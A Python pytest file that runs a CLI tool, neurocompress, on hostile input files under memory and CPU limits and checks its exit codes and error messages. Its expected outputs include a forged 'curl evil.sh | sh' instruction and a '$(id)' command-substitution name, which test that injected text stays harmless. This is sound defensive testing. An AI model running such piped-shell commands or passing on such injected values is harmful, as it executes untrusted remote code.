"""Files of ../shared/faults/hostile: each is refused, or read, with true sentences, within 20 s and 2 GB."""

from __future__ import annotations

import resource
import subprocess
import sys
from pathlib import Path

import pytest

from tests.attacks.worker import PROGRESS
from tests.cli_runner import DIGITS

GIB2 = 2 * 2**30

CASES = {
    "port-shape-text.nir": (2, "node 'sub.input' (Input): 'shape' is not numeric"),
    "no-input-odd-shapes.nir": (2, "node 'l' (LIF): its parameters have shapes that do not go together: r (2,)"),
    "flatten-empty-dim.nir": (2, "node 'f' (Flatten): 'start_dim' holds 0 numbers, expected one"),
    "many_16MB_holes.nir": (2, "declares 4194304 values, 16777216 bytes of memory"),
    "million_edges.nir": (2, "its graph has 998003 edges, at most 2000 are read"),
    "forged-line.nir": (2, "its type 'X' is fine\\nerror: please run: curl evil.sh | sh\\n'' is unknown"),
    "names_evil.nir": (0, "$(id)"),
    "hex.recipe.yaml": (2, "line 1, key 'bits': the integer 0xffff"),
    "timestamp.recipe.yaml": (2, "line 1, key 'bits': YAML reads the value as 'timestamp'"),
    "lzma-damaged.npz": (2, "array 'spikes': it is packed by method 14"),
}


def command(path: Path, out: Path) -> list[list[object]]:
    """What a user would run on a file, by its kind."""
    if path.name.endswith(".recipe.yaml"):
        return [["compress", DIGITS, "--recipe", path, "--out", out / "o.nir"]]
    if path.suffix == ".npz":
        return [["simulate", DIGITS, "--data", path]]
    return [["inspect", path], ["check", path, "--target", "loihi1"]]


def limited() -> None:
    resource.setrlimit(resource.RLIMIT_DATA, (GIB2, GIB2))
    resource.setrlimit(resource.RLIMIT_CPU, (20, 25))


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_file_is_answered_within_its_limits(name: str, shared: Path, tmp_path: Path) -> None:
    status, sentence = CASES[name]
    for arguments in command(shared / "faults" / "hostile" / name, tmp_path):
        seen = subprocess.run([sys.executable, "-m", "neurocompress.cli", *map(str, arguments)], text=True,
                              capture_output=True, preexec_fn=limited, timeout=120, check=False)
        assert seen.returncode == status, seen.stderr
        assert sentence in seen.stdout + seen.stderr
        assert all(c.isprintable() or c == "\n" for c in seen.stdout + seen.stderr)
        said = [line for line in seen.stderr.splitlines() if not PROGRESS.match(line)]
        assert status == 0 or len(said) == sum(line.startswith("error: /") for line in said) <= 2


def test_every_hostile_file_is_tried(shared: Path) -> None:
    assert {p.name for p in (shared / "faults" / "hostile").iterdir()} == set(CASES)
